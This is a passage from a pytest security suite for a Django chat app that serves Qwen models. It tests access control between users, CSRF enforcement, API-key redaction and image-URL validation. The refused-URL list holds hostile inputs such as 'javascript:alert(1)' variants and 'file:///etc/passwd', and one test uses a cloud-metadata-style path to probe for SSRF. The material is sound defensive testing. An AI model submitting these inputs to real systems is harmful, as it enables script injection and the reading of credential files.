            elif isinstance(entry, URLPattern):
                name = entry.name or ""
                if name and namespace:
                    name = f"{namespace}:{name}"
                yield "/" + prefix + piece, name, found

    def build(pattern) -> str:
        if isinstance(pattern, RoutePattern):
            return re.sub(
                r"<(?:\w+:)?(\w+)>",
                lambda m: CONVERTER_DUMMIES.get(type(pattern.converters[m[1]]).__name__, "1"),
                str(pattern),
            )
        regex = str(pattern).removeprefix("^").removesuffix("$")
        return re.sub(r"\(\?P<(\w+)>[^)]*\)", lambda m: REGEX_DUMMIES[m[1]], regex)

    found = list(walk(get_resolver().url_patterns, "", "", {}))
    for path, _name, _converters in found:
        resolve(path)  # a dummy that does not resolve means REGEX_DUMMIES needs a new entry
    return found


def conversation_url_names() -> set[str]:
    return {name for _path, name, converters in url_patterns() if "conversation_id" in converters}


# -- IDOR ------------------------------------------------------------------------------------------


@pytest.fixture
def alice(django_user_model):
    return django_user_model.objects.create_user("alice", password="pw-alice")


@pytest.fixture
def bob(django_user_model):
    return django_user_model.objects.create_user("bob", password="pw-bob")


@pytest.fixture
def alices_chat(alice):
    conversation = conversation_create(owner=alice)
    Conversation.objects.filter(pk=conversation.pk).update(title="Alice secret plans")
    question = Message.objects.create(
        conversation=conversation, role="user", content="alice-question-7f3"
    )
    MessageImage.objects.create(message=question, url="https://example.com/alice.png")
    Message.objects.create(
        conversation=conversation, role="assistant", content="alice-answer-9c1", model="qwen-plus"
    )
    from conversations import uploads

    png = io.BytesIO()
    Image.new("RGB", (4, 4)).save(png, format="PNG")
    uploads.save_upload(conversation, SimpleUploadedFile("alice.png", png.getvalue()))
    conversation.refresh_from_db()
    return conversation


def snapshot(conversation: Conversation):
    """What must not change when someone else pokes at a conversation."""
    fresh = Conversation.objects.filter(pk=conversation.pk).first()
    assert fresh is not None, "the conversation is gone"
    return (
        fresh.owner_id,
        fresh.title,
        fresh.model_id,
        fresh.system_prompt_id,
        list(fresh.messages.values_list("pk", "role", "content", "status")),
        list(MessageImage.objects.filter(message__conversation=fresh).values_list("url")),
        list(fresh.uploads.values_list("pk", "file", "size")),
        list(fresh.messages.values_list("rating", "rating_comment")),
    )


def _other_enabled_model(conversation) -> int:
    return ModelProfile.objects.enabled().exclude(pk=conversation.model_id).first().pk


# Every conversation route, and how another user tries it: (method, suffix, data).
IDOR_REQUESTS = {
    "conversation": ("get", "", {}),
    "conversation_messages": ("get", "?before=999999999", {}),
    "conversation_rename": ("post", "", {"title": "pwned by bob"}),
    "conversation_delete": ("post", "", {}),
    "conversation_settings": ("post", "", {"model": "OTHER_MODEL"}),
    "conversation_export_json": ("get", "", {}),
    "conversation_export_md": ("get", "", {}),
    "conversation_version": ("post", "", {"step": "-1"}),
    "conversation_images": ("post", "", {"image": "PNG"}),  # an image, made per request
    "conversation_image": ("get", "", {}),
    "message_image": ("get", "", {}),
    "message_markdown": ("get", "", {}),
    "message_rating": ("post", "", {"rating": "-1", "comment": "pwned by bob"}),
    "conversation_share": ("post", "", {}),
}
# Routes that also name one of the conversation's messages: alice's newest is tried (for an
# image, her newest with one, and its first image).
MESSAGE_ROUTES = {"conversation_version", "message_image", "message_markdown", "message_rating"}
# Routes that also name one of the conversation's uploads: alice's is tried.
UPLOAD_ROUTES = {"conversation_image"}
SOCKET_ROUTES = {"ws/c/<uuid:conversation_id>/"}


def test_every_conversation_route_is_covered():
    """A new route that takes a conversation id makes this fail until IDOR_REQUESTS tries
    it; the same for a new websocket route."""
    assert conversation_url_names() == set(IDOR_REQUESTS)
    assert {str(p.pattern) for p in websocket_urlpatterns} == SOCKET_ROUTES
    for pattern in websocket_urlpatterns:
        assert "conversation_id" in pattern.pattern.converters


@pytest.mark.django_db
@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
@pytest.mark.parametrize("name", sorted(IDOR_REQUESTS))
def test_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
    """bob, on alice's conversation: 404, exactly as for a conversation that does not exist,
    nothing of hers in the answer, and nothing of hers changed."""
    method, suffix, data = IDOR_REQUESTS[name]
    data = {k: _other_enabled_model(alices_chat) if v == "OTHER_MODEL" else v
            for k, v in data.items()}  # fmt: skip
    before = snapshot(alices_chat)
    client.force_login(bob)
    headers = {"HX-Request": "true"} if htmx else {}
    send = getattr(client, method)
    nobodys = uuid.uuid4()
    extra = _route_extra(alices_chat, name)
    response = send(
        reverse(name, args=[alices_chat.id, *extra]) + suffix, _fresh(data), headers=headers
    )
    missing = send(reverse(name, args=[nobodys, *extra]) + suffix, _fresh(data), headers=headers)
    assert response.status_code == 404, name
    assert missing.status_code == 404
    body = response.content.decode()
    assert _same_page(body.replace(str(alices_chat.id), "ID")) == _same_page(
        missing.content.decode().replace(str(nobodys), "ID")
    ), "the answer must not tell an existing conversation from a missing one"
    for secret in ("Alice secret plans", "alice-question-7f3", "alice-answer-9c1"):
        assert secret not in body
    assert snapshot(alices_chat) == before


def _same_page(html: str) -> str:
    """A page without what differs on every response whatever it is about: the CSP nonce and
    the CSRF token (the not-found page is a page of the app's)."""
    html = re.sub(r'nonce="[^"]*"', 'nonce=""', html)
    return re.sub(r'"X-CSRFToken": "[^"]*"', '"X-CSRFToken": ""', html)


def _route_extra(conversation, name: str) -> list[int]:
    """The arguments after the conversation's id: its newest message (with an image, and the
    image's index, for an image's route), or its upload."""
    if name == "message_image":
        with_images = conversation.messages.filter(images__isnull=False).order_by("pk")
        return [with_images.last().pk, 0]
    if name in MESSAGE_ROUTES:
        return [conversation.messages.order_by("pk").last().pk]
    if name in UPLOAD_ROUTES:
        return [conversation.uploads.get().pk]
    return []


def _fresh(data: dict) -> dict:
    """The request's data, with a new image file where it names one (a file is read once)."""
    if data.get("image") != "PNG":
        return data
    png = io.BytesIO()
    Image.new("RGB", (4, 4)).save(png, format="PNG")
    return {**data, "image": SimpleUploadedFile("bob.png", png.getvalue())}


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(MESSAGE_ROUTES | UPLOAD_ROUTES))
def test_another_users_message_through_ones_own_chat_is_404(client, alices_chat, bob, name):
    """bob names alice's message (or upload) in a URL of his own chat: 404, and nothing of
    hers changes."""
    mine = conversation_create(owner=bob)
    Message.objects.create(conversation=mine, role="user", content="bob-question")
    before = snapshot(alices_chat)
    client.force_login(bob)
    method, suffix, data = IDOR_REQUESTS[name]
    theirs = _route_extra(alices_chat, name)
    response = getattr(client, method)(reverse(name, args=[mine.id, *theirs]) + suffix, data)
    assert response.status_code == 404
    assert snapshot(alices_chat) == before


@pytest.mark.django_db
def test_lists_show_only_own_conversations(client, alices_chat, bob):
    """bob's home page, his own chat page (sidebar) and his earlier-messages partial name none
    of alice's conversations, whatever `before` he passes. (There is no search outside the
    admin; the admin's is item 15's.)"""
    mine = conversation_create(owner=bob)
    Message.objects.create(conversation=mine, role="user", content="bob-question")
    client.force_login(bob)
    last_of_alice = alices_chat.messages.order_by("pk").last().pk
    pages = [
        client.get("/"),
        client.get(f"/c/{mine.id}/"),
        client.get(f"/c/{mine.id}/messages/?before={last_of_alice + 1}"),
        client.get(f"/c/{mine.id}/messages/?before=999999999"),
    ]
    for response in pages:
        assert response.status_code == 200
        page = response.content.decode()
        for secret in (str(alices_chat.id), "Alice secret plans", "alice-question-7f3",
                       "alice-answer-9c1", "alice.png"):  # fmt: skip
            assert secret not in page, (response.wsgi_request.path, secret)
    assert "bob-question" in pages[1].content.decode()


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
    alice = await make_user("alice")
    bob = await make_user("bob")
    theirs = await make_conversation(alice)
    message_id = uuid.uuid4()
    await Message.objects.acreate(
        conversation=theirs, role="user", content="alice-first", client_message_id=message_id
    )
    client = AsyncClient()
    await client.aforce_login(bob)
    response = await client.post("/c/new/", {"client_message_id": str(message_id)})
    assert response.status_code == 302
    assert str(theirs.id) not in response["Location"]
    assert await Conversation.objects.filter(owner=bob).acount() == 1


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_socket_to_a_foreign_conversation_is_closed():
    """bob cannot open alice's conversation's socket (so he cannot send, stop or continue
    on it either), whatever his session; alice's data is untouched."""
    alice = await make_user("alice")
    bob = await make_user("bob")
    staff = await make_user("sam")
    await get_user_model().objects.filter(pk=staff.pk).aupdate(is_staff=True, is_superuser=True)
    staff = await get_user_model().objects.aget(pk=staff.pk)
    theirs = await make_conversation(alice)
    before = await sync_to_async(snapshot)(theirs)
    for intruder in (bob, staff):  # even a superuser has no socket on another's chat
        ws, connected, code = await connect(intruder, theirs)
        assert (connected, code) == (False, 4403), intruder.username
    assert await sync_to_async(snapshot)(theirs) == before


REPLY_A = "alice-words " + " ".join(f"a{i}" for i in range(80))
REPLY_B = "bob-words " + " ".join(f"b{i}" for i in range(80))


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
    """While alice's reply streams, bob (on his own socket, with his own reply streaming)
    presses Stop, and sends a `hello` naming alice's reply: his reply stops, alice's finishes
    whole, and bob's socket gets nothing of hers."""
    app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.02))
    app_simulator.add_scenario(Scenario(match="from-bob", reply=REPLY_B, token_delay=0.02))
    alice, bob = await make_user("alice"), await make_user("bob")
    hers, his = await make_conversation(alice), await make_conversation(bob)
    ws_a, _, _ = await connect(alice, hers)
    ws_b, _, _ = await connect(bob, his)
    seen_a, seen_b = Transcript(), Transcript()
    await ws_a.send_to(text_data=send_frame("from-alice"))
    await receive_until(ws_a, seen_a, lambda t: sum(f[0] == "+" for f in t.frames) >= 2)
    await ws_b.send_to(text_data=send_frame("from-bob"))
    await receive_until(ws_b, seen_b, lambda t: sum(f[0] == "+" for f in t.frames) >= 2)
    her_reply = await assistant_reply(hers)
    await ws_b.send_to(text_data=json.dumps({"type": "stop"}))
    await ws_b.send_to(
        text_data=json.dumps({"type": "hello", "streaming": [her_reply.pk], "last": 0})
    )
    await receive_until(ws_b, seen_b, lambda t: "stopped" in t.status.values())
    ended = lambda t: t.status.get(her_reply.pk, "streaming") != "streaming"  # noqa: E731
    await receive_until(ws_a, seen_a, ended, within=20)
    her_reply = await wait_for_status(her_reply.pk, {"complete", "stopped", "error"})
    assert her_reply.status == "complete", "bob's Stop stopped alice's reply"
    assert her_reply.content == REPLY_A
    assert (await assistant_reply(his)).status == "stopped"
    await asyncio.sleep(0.2)
    while not await ws_b.receive_nothing(timeout=0.1):
        seen_b.feed(await ws_b.receive_from())
    for frame in seen_b.frames:
        assert "alice-words" not in frame and f"message-{her_reply.pk}" not in frame
        assert str(hers.id) not in frame
    assert her_reply.pk not in seen_b.text
    await ws_a.disconnect()
    await ws_b.disconnect()


# -- frames never cross users ----------------------------------------------------------------------


def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id, other_word):
    last: dict[str, int] = {}
    for frame in frames:
        if frame[:1] in ("+", "~"):
            pk_text, _, _text = frame[1:].partition(":")
            assert pk_text or frame[0] in last, "a `+:` frame before any `+<pk>:` frame"
            pk = int(pk_text) if pk_text else last[frame[0]]
            last[frame[0]] = pk
            assert pk in own_pks, frame
        else:
            for pk in re.findall(r'id="message-(\d+)', frame):
                assert int(pk) in own_pks, frame
            assert str(other_id) not in frame
        assert other_word not in frame, frame


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_frames_never_cross_users(app_simulator):
    """alice (two tabs) and bob stream at the same time on the in-memory layer: every frame
    each socket gets is about its own conversation's messages."""
    app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.01))
    app_simulator.add_scenario(Scenario(match="from-bob", reply=REPLY_B, token_delay=0.01))
    alice, bob = await make_user("alice"), await make_user("bob")
    hers, his = await make_conversation(alice), await make_conversation(bob)
    tab1, _, _ = await connect(alice, hers)
    tab2, _, _ = await connect(alice, hers)
    ws_b, _, _ = await connect(bob, his)
    seen = {tab1: Transcript(), tab2: Transcript(), ws_b: Transcript()}
    stamps: dict[object, list[float]] = {tab1: [], ws_b: []}
    await asyncio.gather(
        tab1.send_to(text_data=send_frame("from-alice")),
        ws_b.send_to(text_data=send_frame("from-bob")),
    )

    async def follow(ws):
        transcript = seen[ws]
        while "complete" not in transcript.status.values():
            transcript.feed(await ws.receive_from(timeout=20))
            if ws in stamps and transcript.frames[-1][:1] == "+":
                stamps[ws].append(time.monotonic())

    await asyncio.wait_for(asyncio.gather(*(follow(ws) for ws in seen)), 30)
    # They really streamed at the same time.
    assert stamps[tab1][0] < stamps[ws_b][-1] and stamps[ws_b][0] < stamps[tab1][-1]
    her_pks = {pk async for pk in hers.messages.values_list("pk", flat=True)}
    his_pks = {pk async for pk in his.messages.values_list("pk", flat=True)}
    for tab in (tab1, tab2):
        assert_frames_belong(seen[tab].frames, her_pks, hers.id, his.id, "bob-words")
        assert seen[tab].text[max(her_pks)] == REPLY_A
    assert_frames_belong(seen[ws_b].frames, his_pks, his.id, hers.id, "alice-words")
    assert seen[ws_b].text[max(his_pks)] == REPLY_B
    for ws in seen:
        await ws.disconnect()


# -- CSRF ------------------------------------------------------------------------------------------

# Views that may take a POST without a CSRF token, each with its reason. None so far.
CSRF_EXEMPT_ALLOWED: dict[str, str] = {}


def test_no_view_is_csrf_exempt():
    exempt = {
        name or path
        for path, name, _ in url_patterns()
        if getattr(resolve(path).func, "csrf_exempt", False)
    }
    assert exempt <= set(CSRF_EXEMPT_ALLOWED), exempt


def _csrf_client(user) -> Client:
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    return client


def _refused_for_csrf(response) -> bool:
    return response.status_code == 403 and b"CSRF" in response.content


@pytest.mark.django_db
def test_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
    """Every URL in the URL conf, POSTed without a token by a signed-in user (the owner of the
    conversation the URL names, or a superuser for the admin), is refused by the CSRF check."""
    owner = _csrf_client(alice)
    admin = _csrf_client(admin_user)
    before = snapshot(alices_chat)
    refused = []
    for path, name, _ in url_patterns():
        client = admin if path.startswith("/admin/") else owner
        response = client.post(path.replace(DUMMY_UUID, str(alices_chat.id)), {"x": "1"})
        if not _refused_for_csrf(response):
            refused.append((path, name, response.status_code))
    assert refused == [], "POST without a CSRF token was not refused"
    assert snapshot(alices_chat) == before


@pytest.mark.django_db
def test_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
    """Each state-changing view, without a token: 403 and nothing changed; with the token the
    same request works (so the 403 is the CSRF check's, not something else)."""
    client = _csrf_client(alice)
    other_model = _other_enabled_model(alices_chat)
    base = f"/c/{alices_chat.id}/"
    posts = [
        ("/c/new/", {"content": "csrf?"}),
        (base + "rename/", {"title": "csrf title"}),
        (base + "settings/", {"model": other_model}),
        (base + "delete/", {}),
        ("/i18n/setlang/", {"language": "zh-hans", "next": "/"}),
        ("/accounts/logout/", {}),
        ("/admin/logout/", {}),
    ]
    before = snapshot(alices_chat)
    count = Conversation.objects.count()
    for url, data in posts:
        for headers in ({}, {"HX-Request": "true"}):
            response = client.post(url, data, headers=headers)
            assert _refused_for_csrf(response), (url, response.status_code)
            assert django_settings.LANGUAGE_COOKIE_NAME not in response.cookies
    assert snapshot(alices_chat) == before
    assert Conversation.objects.count() == count
    assert client.get("/").status_code == 200, "still signed in: logout needs the token"

    token = client.cookies[django_settings.CSRF_COOKIE_NAME].value
    response = client.post(base + "rename/", {"title": "with token"}, HTTP_X_CSRFTOKEN=token)
    assert response.status_code in (200, 302)
    alices_chat.refresh_from_db()
    assert alices_chat.title == "with token"

    anonymous = Client(enforce_csrf_checks=True)
    response = anonymous.post("/accounts/login/", {"username": "alice", "password": "pw-alice"})
    assert _refused_for_csrf(response), "login needs a token too (login CSRF)"
    assert "_auth_user_id" not in anonymous.session


@pytest.mark.django_db
def test_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
    client = _csrf_client(admin_user)
    changelist = "/admin/conversations/conversation/"
    profile = ModelProfile.objects.first()
    label = profile.label
    for url, data in [
        (changelist, {"action": "export_json", "_selected_action": [str(alices_chat.pk)]}),
        (changelist, {"action": "delete_selected", "_selected_action": [str(alices_chat.pk)],
                      "post": "yes"}),
        (f"{changelist}{alices_chat.pk}/delete/", {"post": "yes"}),
        (f"/admin/conversations/modelprofile/{profile.pk}/change/",
         {"label": "pwned", "name": profile.name}),
        ("/admin/conversations/systemprompt/add/", {"name": "pwned", "text": "pwned"}),
        (f"/admin/auth/user/{admin_user.pk}/password/",
         {"password1": "n3w-Passw0rd!", "password2": "n3w-Passw0rd!"}),
    ]:  # fmt: skip
        response = client.post(url, data)
        assert _refused_for_csrf(response), (url, response.status_code)
        assert b'"messages"' not in response.content, "nothing exported"
    assert Conversation.objects.filter(pk=alices_chat.pk).exists()
    profile.refresh_from_db()
    assert profile.label == label
    assert not LogEntry.objects.exists(), "no admin action ran, not even an audited export"
    admin_user.refresh_from_db()
    assert admin_user.check_password("password")


# -- the API key never leaks -----------------------------------------------------------------------

WRONG_KEY = "sk-wrong-key-0d7e61b5a2"


async def send_and_settle(ws, transcript: Transcript, text: str, **extra) -> int:
    """Send a message, wait for its reply to finish (any way); return the reply's pk."""
    before = set(transcript.status)
    frame = json.loads(send_frame(text))
    frame.update(extra)
    await ws.send_to(text_data=json.dumps(frame))

    def settled(t: Transcript) -> bool:
        new = [pk for pk in t.status if pk not in before]
        return bool(new) and t.status[max(new)] != "streaming"

    await receive_until(ws, transcript, settled, within=20)
    return max(pk for pk in transcript.status if pk not in before)


def _pages(owner, admin, conversations: list[Conversation]) -> list[str]:
    """Every page and export a person could see of these conversations, with headers."""
    user_client, admin_client = Client(), Client()
    user_client.force_login(owner)
    admin_client.force_login(admin)
    responses = [user_client.get("/")]
    for conversation in conversations:
        base = f"/c/{conversation.id}/"
        responses += [
            user_client.get(base),
            user_client.get(base + "messages/?before=999999999"),
            user_client.get(base + "export.json"),
            user_client.get(base + "export.md"),
        ]
        admin_base = f"/admin/conversations/conversation/{conversation.pk}/"
        responses += [
            admin_client.get(admin_base + "change/"),
            admin_client.get(admin_base + "history/"),
            admin_client.get(
                "/admin/conversations/message/?conversation__id__exact=" + str(conversation.pk)
            ),
            admin_client.post(
                "/admin/conversations/conversation/",
                {"action": "export_json", "_selected_action": [str(conversation.pk)]},
            ),
        ]
        for pk in conversation.messages.values_list("pk", flat=True):
            responses.append(admin_client.get(f"/admin/conversations/message/{pk}/change/"))
    responses += [admin_client.get("/admin/"), admin_client.get("/admin/conversations/message/")]
    for response in responses:
        assert response.status_code == 200, response.wsgi_request.path
    return [
        "\n".join(f"{k}: {v}" for k, v in response.items()) + "\n" + response.content.decode()
        for response in responses
    ]


def _log_text(caplog) -> list[str]:
    formatter = logging.Formatter("%(name)s %(levelname)s %(message)s")
    return [formatter.format(record) for record in caplog.records]


def _capture_all_logs(caplog) -> None:
    caplog.set_level(logging.DEBUG)
    for name in ("httpx", "httpcore", "conversations", "django", "channels", "daphne",
                 "qwenweb", "asyncio", "uvicorn"):  # fmt: skip
        caplog.set_level(logging.DEBUG, logger=name)


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_api_key_never_leaks(app_simulator, settings, caplog):
    """A chat with the app's key: a normal reply, an auth error and upstream errors whose
    message echoes the key (before the stream, mid-stream, native and OpenAI-compatible), then
    a wrong key. Neither key is in any frame, page, export, admin page, saved message or log
    record (every logger at DEBUG, httpx and httpcore included)."""
    _capture_all_logs(caplog)
    echo = f'Bad request {{"headers": {{"Authorization": "Bearer {APP_API_KEY}"}}}}, {APP_API_KEY}'
    app_simulator.add_scenario(
        Scenario(match="auth-echo", error=ScenarioError(
            status=401, code="InvalidApiKey", message=f"Invalid API-key provided: {APP_API_KEY}"))
    )  # fmt: skip
    app_simulator.add_scenario(
        Scenario(match="bad-echo", times=2, error=ScenarioError(
            status=400, code="InvalidParameter", message=echo))
    )  # fmt: skip
    app_simulator.add_scenario(
        Scenario(match="mid-echo", reply="partial words here and more", error=ScenarioError(
            status=400, code="InvalidParameter", message=echo, where="mid_stream",
            after_chunks=2))
    )  # fmt: skip
    owner = await make_user("alice")
    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
    native = await make_conversation(owner)
    compatible = await make_conversation(owner, model_name="qwen-max")
    await ModelProfile.objects.filter(name="qwen-max").aupdate(protocol="compatible")

    frames: list[str] = []
    ws, _, _ = await connect(owner, native)
    transcript = Transcript()
    replies = [await send_and_settle(ws, transcript, text)
               for text in ("hello there", "auth-echo", "bad-echo", "mid-echo")]  # fmt: skip
    frames += transcript.frames
    await ws.disconnect()
    ws, _, _ = await connect(owner, compatible)
    transcript = Transcript()
    replies.append(await send_and_settle(ws, transcript, "bad-echo"))
    settings.DASHSCOPE_API_KEY = WRONG_KEY
    reset_clients()
    replies.append(await send_and_settle(ws, transcript, "with the wrong key"))
    frames += transcript.frames
    await ws.disconnect()

    statuses = [(await Message.objects.aget(pk=pk)).status for pk in replies]
    assert statuses == ["complete", "error", "error", "error", "error", "error"]
    # The echoes reached the app (and were redacted there), and the key was really used.
    bad = await Message.objects.aget(pk=replies[2])
    assert "sk-***" in bad.error_message
    authorized = [r.authorized for r in app_simulator.requests]
    assert authorized[:5] == [True] * 5 and authorized[5:] and not any(authorized[5:])
    assert any(r.name.startswith("httpx") for r in caplog.records), "httpx was not captured"

    pages = await sync_to_async(_pages)(owner, admin, [native, compatible])
    saved = [
        json.dumps(row, default=str)
        async for row in Message.objects.values(
            "content", "reasoning", "error_code", "error_message", "request_id"
        )
    ]
    haystacks = {"frame": frames, "page": pages, "saved": saved, "log": _log_text(caplog)}
    for key in (APP_API_KEY, WRONG_KEY):
        for kind, texts in haystacks.items():
            leaks = [text for text in texts if key in text]
            assert leaks == [], f"{key} in a {kind}: {leaks[:1]}"


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
    _capture_all_logs(caplog)
    settings.DASHSCOPE_API_KEY = APP_API_KEY + "\n"
    reset_clients()
    owner = await make_user("alice")
    conversation = await make_conversation(owner)
    ws, _, _ = await connect(owner, conversation)
    transcript = Transcript()
    await send_and_settle(ws, transcript, "hello")
    await ws.disconnect()
    saved = [m async for m in Message.objects.values_list("error_message", flat=True)]
    for text in [*transcript.frames, *saved, *_log_text(caplog)]:
        assert APP_API_KEY not in text, text
    # The key read from a secret file works: the newline is not part of it.
    assert set(transcript.status.values()) == {"complete"}, transcript.status


def _text_columns(model) -> list[str]:
    return [
        field.attname
        for field in model._meta.concrete_fields
        if field.get_internal_type() in ("CharField", "TextField", "JSONField")
    ]


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_a_key_echoed_by_the_upstream_is_never_stored_or_shown(app_simulator, caplog):
    """An upstream (or a proxy) that echoes the Authorization header into the request id
    (JSON and x-request-id), the error's code and message, and the reply text. One reply
    completes, one fails mid-stream, one is refused before the stream (native and compatible):
    the key is in no text column of Message or Conversation, no export, no page of the admin
    (change and review), no socket frame and no log record (every logger at DEBUG but
    httpcore, whose debug lines quote response headers as received: the app keeps it at
    WARNING, whatever QWENWEB_LOG_LEVEL says)."""
    _capture_all_logs(caplog)
    assert django_settings.LOGGING["loggers"]["httpcore"]["level"] == "WARNING"
    caplog.set_level(logging.WARNING, logger="httpcore")
    app_simulator.add_scenario(Scenario(match="talk", times=-1, echo_authorization=True))
    app_simulator.add_scenario(
        Scenario(match="break", times=-1, echo_authorization=True, reply="some words then more",
                 error=ScenarioError(status=500, code="InternalError", where="mid_stream",
                                     after_chunks=2))
    )  # fmt: skip
    app_simulator.add_scenario(
        Scenario(match="refuse", times=-1, echo_authorization=True,
                 error=ScenarioError(status=400, code="InvalidParameter"))
    )  # fmt: skip
    owner = await make_user("alice")
    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
    native = await make_conversation(owner)
    compatible = await make_conversation(owner, model_name="qwen-max")
    await ModelProfile.objects.filter(name="qwen-max").aupdate(protocol="compatible")

    frames: list[str] = []
    replies: list[int] = []
    for conversation in (native, compatible):
        ws, _, _ = await connect(owner, conversation)
        transcript = Transcript()
        for text in ("talk to me", "break please", "refuse this"):
            replies.append(await send_and_settle(ws, transcript, text))
        frames += transcript.frames
        await ws.disconnect()

    saved = [await Message.objects.aget(pk=pk) for pk in replies]
    assert [m.status for m in saved] == ["complete", "error", "error"] * 2
    # The echo really reached the app, redacted, everywhere it was put.
    for message in saved:
        assert "sk-***" in message.request_id, message.request_id
    assert all("Bearer sk-***" in saved[i].content for i in (0, 3))

    pages = await sync_to_async(_pages)(owner, admin, [native, compatible])
    rows = [
        json.dumps(row, default=str)
        async for row in Message.objects.values(*_text_columns(Message))
    ] + [
        json.dumps(row, default=str)
        async for row in Conversation.objects.values(*_text_columns(Conversation))
    ]
    haystacks = {"frame": frames, "page": pages, "saved": rows, "log": _log_text(caplog)}
    for kind, texts in haystacks.items():
        leaks = [text for text in texts if APP_API_KEY in text]
        assert leaks == [], f"the key in a {kind}: {leaks[:1]}"


def test_the_offline_demo_simulator_takes_no_orders_from_other_local_processes(settings):
    """With no API key the app starts the simulator on a loopback port every local process can
    reach: its control endpoints need a token only the app knows (401 without, 403 with a
    guess), its API key is random per run (the old well-known one is refused), and it keeps
    only the newest requests."""
    from conversations import upstream
    from dashscope_simulator import SimulatorServer

    settings.DASHSCOPE_API_KEY = ""
    config = upstream.get_config()
    demo = upstream._simulator
    try:
        assert isinstance(demo, SimulatorServer) and config.native_base_url == demo.native_base_url
        scenario = {"reply": "Injected by a stranger.", "times": -1}
        for headers, status in (
            ({}, 401),
            ({"Authorization": "Bearer guess"}, 403),
            ({"Authorization": "Bearer sk-offline-demo"}, 403),
        ):
            post = httpx.post(demo.url + "/_simulator/scenarios", json=scenario, headers=headers)
            read = httpx.get(demo.url + "/_simulator/requests", headers=headers)
            assert (post.status_code, read.status_code) == (status, status)
        assert demo.simulator.scenarios == []
        owner = {"Authorization": f"Bearer {upstream.DEMO_CONTROL_TOKEN}"}
        assert httpx.get(demo.url + "/_simulator/state", headers=owner).status_code == 200

        assert config.api_key == upstream.DEMO_API_KEY != "sk-offline-demo"
        assert len(upstream.DEMO_API_KEY) > 30
        old_key = {"Authorization": "Bearer sk-offline-demo"}
        assert httpx.get(demo.compatible_base_url + "/models", headers=old_key).status_code == 401
        assert demo.simulator.max_recorded == 200
    finally:
        demo.stop()
        upstream._simulator = None


# -- image URLs ------------------------------------------------------------------------------------

ACCEPTED_IMAGE_URLS = [
    "https://example.com/cat.png",
    "http://example.com/cat.png",
    "HTTPS://EXAMPLE.COM/CAT.PNG",
    "https://user:pw@example.com/x.png",  # the sender's own credentials; never fetched here
    "http://127.0.0.1:8000/x.png",  # loopback and private hosts: the server never fetches
    "http://10.0.0.1/x.png",
    "http://[::1]/x.png",
]
REFUSED_IMAGE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://example.com/%0Aalert(1)",
    "data:image/png;base64,iVBORw0KGgo=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.com/x.png",
    "gopher://example.com/x",
    "/relative/x.png",
    "x.png",
    "//example.com/x.png",
    "https:/example.com/x.png",
    "https://",
    "https://example.com/" + "a" * 2000,
]


@pytest.mark.parametrize("url", ACCEPTED_IMAGE_URLS + REFUSED_IMAGE_URLS)
def test_image_urls_must_be_http_or_https(url):
    if url in ACCEPTED_IMAGE_URLS:
        assert rules.clean_image_urls(url) == [url]
    else:
        with pytest.raises(service.ReplyRefused):
            rules.clean_image_urls(url)
        # One bad URL among good ones refuses them all.
        with pytest.raises(service.ReplyRefused):
            rules.clean_image_urls(["https://example.com/ok.png", url])


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
    owner = await make_user("alice")
    conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
    ws, _, _ = await connect(owner, conversation)
    client = AsyncClient()
    await client.aforce_login(owner)
    vision = await ModelProfile.objects.aget(name="qwen3-vl-plus")
    for url in REFUSED_IMAGE_URLS:
        frame = json.loads(send_frame("look"))
        frame["image_urls"] = url
        await ws.send_to(text_data=json.dumps(frame))
        assert 'class="notice"' in await ws.receive_from(timeout=5), url
        response = await client.post(
            "/c/new/", {"content": "look", "image_urls": url, "model": vision.pk}
        )
        assert response.status_code == 400, url
    await ws.disconnect()
    assert await Message.objects.acount() == 0
    assert await MessageImage.objects.acount() == 0
    assert await Conversation.objects.acount() == 1
    assert app_simulator.requests == []


@pytest.fixture
def local_http_server():
    """An HTTP server on 127.0.0.1 that records every request it gets."""
    hits: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def _answer(self):
            hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_HEAD = do_POST = _answer

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_server_never_fetches_image_urls(app_simulator, local_http_server):
    """Image URLs sent to a vision model (over the socket and through the home page's form)
    pointing at a server on 127.0.0.1 are only passed on to DashScope: rendering the chat,
    the exports and the admin pages makes no request to it either (their thumbnails are
    fetched by the image proxy only when a browser asks for one, and it refuses loopback:
    tests/test_images.py)."""
    base, hits = local_http_server
    urls = [f"{base}/cat.png", f"{base}/latest/meta-data/iam.png"]
    owner = await make_user("alice")
